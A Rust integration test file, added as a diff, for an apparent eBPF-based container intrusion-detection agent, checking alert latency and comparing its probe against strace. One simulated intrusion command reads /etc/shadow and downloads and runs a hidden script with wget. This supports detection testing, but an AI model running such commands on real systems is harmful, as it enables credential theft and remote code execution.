@@ -1,0 +1,378 @@
+//! The agent end to end on a real Docker engine with the eBPF probe: two containers run the same
+//! camera-like workload (scripts/lab/build-lab-image.sh), `mamori learn` learns the image from
+//! one of them live, `mamori agent` watches both, then `docker exec` runs an intrusion in one.
+//! The intruded container must alert within 2 s; the other must stay quiet. The probe's view of
+//! the workload is also checked against strace's for the same run.
+//!
+//! Needs root, a kernel with BTF, dockerd and Debian's busybox-static; runs when
+//! MAMORI_DOCKER_TESTS=1 (.ci/run starts dockerd and sets it).
+
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+const IMAGE: &str = "mamori-lab-bb";
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+fn enabled() -> bool {
+    if std::env::var_os("MAMORI_DOCKER_TESTS").is_none() {
+        eprintln!("skipped: set MAMORI_DOCKER_TESTS=1 with dockerd running (see .ci/run)");
+        return false;
+    }
+    true
+}
+
+fn docker(args: &[&str]) -> String {
+    let out = Command::new("docker")
+        .args(args)
+        .output()
+        .expect("docker runs");
+    assert!(
+        out.status.success(),
+        "docker {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// Removes the test's containers however the test ends.
+struct Containers(Vec<String>);
+
+impl Containers {
+    fn run(names: &[&str]) -> Self {
+        let status = Command::new(repo().join("scripts/lab/build-lab-image.sh"))
+            .arg(IMAGE)
+            .status()
+            .expect("build-lab-image.sh runs");
+        assert!(status.success(), "building the lab image failed");
+        let c = Containers(names.iter().map(|s| s.to_string()).collect());
+        for name in names {
+            let _ = Command::new("docker").args(["rm", "-f", name]).output();
+            docker(&["run", "-d", "--name", name, "--network", "none", IMAGE]);
+        }
+        c
+    }
+}
+
+impl Drop for Containers {
+    fn drop(&mut self) {
+        for name in &self.0 {
+            let _ = Command::new("docker").args(["rm", "-f", name]).output();
+        }
+    }
+}
+
+fn mamori() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_mamori"))
+}
+
+struct Agent(Child);
+
+impl Drop for Agent {
+    fn drop(&mut self) {
+        // SAFETY: kill only signals the agent this test started.
+        unsafe { libc::kill(self.0.id() as libc::pid_t, libc::SIGTERM) };
+        let _ = self.0.wait();
+    }
+}
+
+fn alerts_in(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn http_get(addr: &str, path: &str) -> (u16, String) {
+    let mut s = std::net::TcpStream::connect(addr).expect("connect to the agent");
+    s.set_read_timeout(Some(Duration::from_secs(5)))
+        .expect("timeout");
+    write!(s, "GET {path} HTTP/1.0\r\nHost: x\r\n\r\n").expect("request");
+    let mut text = String::new();
+    s.read_to_string(&mut text).expect("response");
+    let status = text
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0);
+    let body = text.split("\r\n\r\n").nth(1).unwrap_or("").to_string();
+    (status, body)
+}
+
+fn metric(body: &str, name: &str, container: &str) -> f64 {
+    let prefix = format!("{name}{{container=\"{container}\",");
+    body.lines()
+        .find(|l| l.starts_with(&prefix))
+        .and_then(|l| l.rsplit(' ').next())
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(0.0)
+}
+
+#[test]
+fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
+    if !enabled() {
+        return;
+    }
+    let (a, b) = ("mamori-lab-a", "mamori-lab-b");
+    let _containers = Containers::run(&[a, b]);
+    let dir = std::env::temp_dir().join(format!("mamori-agent-test-{}", std::process::id()));
+    let models = dir.join("models");
+    std::fs::create_dir_all(&models).expect("model dir");
+
+    // learn the image from container a, live
+    let out = mamori()
+        .args([
+            "learn",
+            "--container",
+            a,
+            "--duration",
+            "40s",
+            "--quiet",
+            "--models",
+        ])
+        .arg(&models)
+        .output()
+        .expect("mamori learn runs");
+    assert!(
+        out.status.success(),
+        "learn failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let model = models.join(format!("{IMAGE}.model"));
+    assert!(model.exists(), "learn wrote {}", model.display());
+
+    let alerts = dir.join("alerts.jsonl");
+    let listen = "127.0.0.1:19464";
+    let mut agent = Agent(
+        mamori()
+            .args(["agent", "--quiet", "--listen", listen, "--models"])
+            .arg(&models)
+            .arg("--alerts")
+            .arg(&alerts)
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("mamori agent starts"),
+    );
+    // wait until the agent reports it is watching
+    let stderr = agent.0.stderr.take().expect("stderr");
+    let mut lines = BufReader::new(stderr).lines();
+    let started = Instant::now();
+    loop {
+        let line = lines
+            .next()
+            .expect("agent stderr")
+            .expect("agent stderr line");
+        eprintln!("agent: {line}");
+        if line.contains("agent watching") {
+            break;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "agent did not start"
+        );
+    }
+    std::thread::spawn(move || {
+        for line in lines.map_while(Result::ok) {
+            eprintln!("agent: {line}");
+        }
+    });
+
+    // quiet period: normal operation of both containers
+    std::thread::sleep(Duration::from_secs(15));
+    let before = alerts_in(&alerts);
+    eprintln!("alerts during normal operation: {before:?}");
+
+    let intrusion = "id; cat /etc/shadow; wget -q -O /tmp/.x http://127.0.0.1:8080/fw.sh; \
+                     chmod +x /tmp/.x; /tmp/.x; ps; kill -0 1";
+    let t0 = Instant::now();
+    docker(&["exec", a, "sh", "-c", intrusion]);
+    let mut latency = None;
+    while t0.elapsed() < Duration::from_secs(10) {
+        if alerts_in(&alerts).len() > before.len()
+            && alerts_in(&alerts)[before.len()..]
+                .iter()
+                .any(|x| x["container"] == a)
+        {
+            latency = Some(t0.elapsed());
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let latency = latency.expect("an alert for the intruded container");
+    eprintln!("alert after {:.3}s", latency.as_secs_f64());
+    assert!(latency <= Duration::from_secs(2), "alert took {latency:?}");
+    let new: Vec<Value> = alerts_in(&alerts)[before.len()..].to_vec();
+    let first = new
+        .iter()
+        .find(|x| x["container"] == a)
+        .expect("alert for a");
+    for field in [
+        "time",
+        "container_id",
+        "image",
+        "model",
+        "window",
+        "score",
+        "threshold",
+        "top_classes",
+        "processes",
+    ] {
+        assert!(!first[field].is_null(), "alert has {field}: {first}");
+    }
+    assert_eq!(first["image"], IMAGE);
+
+    // the other container keeps running its normal workload
+    std::thread::sleep(Duration::from_secs(10));
+    let all = alerts_in(&alerts);
+    let b_alerts: Vec<&Value> = all.iter().filter(|x| x["container"] == b).collect();
+    assert!(
+        b_alerts.is_empty(),
+        "the untouched container alerted: {b_alerts:?}"
+    );
+    let a_normal = before.iter().filter(|x| x["container"] == a).count();
+    assert!(
+        a_normal <= 1,
+        "false alarms on a during normal operation: {before:?}"
+    );
+
+    let (status, body) = http_get(listen, "/metrics");
+    assert_eq!(status, 200);
+    for c in [a, b] {
+        assert!(
+            metric(&body, "mamori_events_total", c) > 100.0,
+            "events of {c}:\n{body}"
+        );
+        assert!(
+            metric(&body, "mamori_windows_scored_total", c) > 10.0,
+            "windows of {c}"
+        );
+    }
+    assert!(metric(&body, "mamori_alerts_total", a) >= 1.0);
+    assert_eq!(metric(&body, "mamori_alerts_total", b), 0.0);
+    assert!(
+        body.contains("mamori_probe_dropped_total{cpu=\"0\"} 0"),
+        "{body}"
+    );
+    let (status, body) = http_get(listen, "/healthz");
+    assert_eq!((status, body.trim()), (200, "ok"));
+}
+
+#[test]
+fn probe_and_strace_see_the_same_calls_of_a_container() {
+    if !enabled() {
+        return;
+    }
+    let c = "mamori-lab-cmp";
+    let _containers = Containers::run(&[c]);
+    let dir = std::env::temp_dir().join(format!("mamori-cmp-test-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let pid = docker(&["inspect", "-f", "{{.State.Pid}}", c]);
+    // strace follows the container's main process and the children it starts; the probe sees
+    // the whole cgroup. The same run is compared: threads strace saw, over the time both ran.
+    let strace_out = dir.join("strace.txt");
+    let mut strace = Command::new("strace")
+        .args(["-f", "-q", "-ttt", "-o"])
+        .arg(&strace_out)
+        .args(["-p", &pid])
+        .spawn()
+        .expect("strace starts");
+    std::thread::sleep(Duration::from_millis(500));
+    let capture = dir.join("probe.jsonl");
+    let out = mamori()
+        .args([
+            "capture",
+            "--container",
+            c,
+            "--duration",
+            "8s",
+            "--quiet",
+            "-o",
+        ])
+        .arg(&capture)
+        .output()
+        .expect("mamori capture runs");
+    assert!(
+        out.status.success(),
+        "capture failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    std::thread::sleep(Duration::from_millis(500));
+    // SAFETY: signals only the strace this test started.
+    unsafe { libc::kill(strace.id() as libc::pid_t, libc::SIGTERM) };
+    let _ = strace.wait();
+
+    let probe: Vec<(String, u32, i64)> = std::fs::read_to_string(&capture)
+        .expect("capture file")
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .map(|v| {
+            (
+                v["syscall"].as_str().unwrap_or("").to_string(),
+                v["tid"].as_u64().unwrap_or(0) as u32,
+                v["time_ns"].as_i64().unwrap_or(0),
+            )
+        })
+        .collect();
+    let reader = mamori_ingest::EventReader::new(
+        BufReader::new(std::fs::File::open(&strace_out).expect("strace file")),
+        "strace",
+        mamori_ingest::Format::Strace,
+        true,
+    );
+    let traced: Vec<(String, u32, i64)> = reader
+        .flatten()
+        .map(|e| (e.syscall, e.tid.unwrap_or(0), e.time_ns.unwrap_or(0)))
+        .collect();
+    assert!(
+        probe.len() > 500,
+        "the probe captured the workload: {} calls",
+        probe.len()
+    );
+    // the probe ran inside strace's span; drop 200 ms at each end for start-up skew
+    let lo = probe.iter().map(|p| p.2).min().unwrap_or(0) + 200_000_000;
+    let hi = probe.iter().map(|p| p.2).max().unwrap_or(0) - 200_000_000;
+    let tids: std::collections::BTreeSet<u32> = traced.iter().map(|t| t.1).collect();
+    let count = |calls: &[(String, u32, i64)]| -> BTreeMap<String, u64> {
+        let mut m = BTreeMap::new();
+        for (name, tid, t) in calls {
+            if tids.contains(tid) && (lo..=hi).contains(t) {
+                *m.entry(name.clone()).or_default() += 1;
+            }
+        }
+        m
+    };
+    let (p, s) = (count(&probe), count(&traced));
+    let (p_total, s_total): (u64, u64) = (p.values().sum(), s.values().sum());
+    eprintln!(
+        "same threads, same {:.1}s: probe {p_total} calls, strace {s_total}",
+        (hi - lo) as f64 / 1e9
+    );
+    assert!(s_total > 300, "strace saw the workload: {s_total}");
+    let mut checked = 0;
+    for (name, &n) in &s {
+        let got = p.get(name).copied().unwrap_or(0);
+        eprintln!("{name:>16}: strace {n:>6} probe {got:>6}");
+        // calls straddling the window's edges may fall on either side for either tracer
+        let tolerance = (n as f64 * 0.05).max(3.0);
+        assert!(
+            (got as f64 - n as f64).abs() <= tolerance,
+            "{name}: strace {n}, probe {got}"
+        );
+        checked += 1;
+    }
+    for (name, &n) in &p {
+        assert!(
+            s.contains_key(name) || n <= 3,
+            "{name}: probe {n}, strace none"
+        );
+    }
+    assert!(checked >= 8, "compared {checked} syscalls");
+}
